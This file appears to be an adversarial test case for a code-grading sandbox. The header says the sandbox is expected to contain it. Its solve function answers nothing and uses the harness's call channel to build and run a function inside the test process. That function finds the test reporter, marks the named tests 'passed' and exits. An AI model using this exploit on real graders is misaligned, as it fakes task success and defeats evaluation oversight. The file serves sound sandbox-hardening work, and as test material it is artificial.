# attack: while a call waits, have the test's process build a code object and a function from it, and call the function
# contained: a program may use the objects that the test passed to it, but no class that it names itself
# expect: wrong_answer, runtime_error
# uses: asserts
import base64
import json
import os

PAYLOAD = """
import gc, os
for thing in gc.get_objects():
    if type(thing).__name__ == "Reporter":
        for line in ("test_it", "Solve::test_pair", "test_it[numbers0-7]", "test_it[numbers1-7]", "TestSolve::test_it"):
            thing.emit(name=line, outcome="passed", message="")
        thing.emit(end="passed", message="")
        os._exit(0)
"""


def ask(*args):
    os.write(4, json.dumps({"do": "call", "args": args}).encode() + b"\n")
    answer = b""
    while not answer.endswith(b"\n"):
        answer += os.read(3, 65536) or os._exit(0)
    kind, (number, *_) = next(iter(json.loads(answer)["value"].items()))
    return {"yours": number}


def sent(value):
    if isinstance(value, bytes):
        return {"bytes": base64.b64encode(value).decode()}
    return {"tuple": [*value]} if isinstance(value, tuple) else value


def solve(numbers):
    code = compile(f"exec({PAYLOAD!r})", "code", "eval")
    fields = "argcount posonlyargcount kwonlyargcount nlocals stacksize flags code consts names varnames"
    fields = [*fields.split(), "filename", "name", "qualname", "firstlineno", "linetable", "exceptiontable"]
    built = ask({"global": ["types", "CodeType"]}, *(sent(getattr(code, f"co_{name}")) for name in fields))
    return ask(ask({"global": ["types", "FunctionType"]}, built, {"dict": []}))
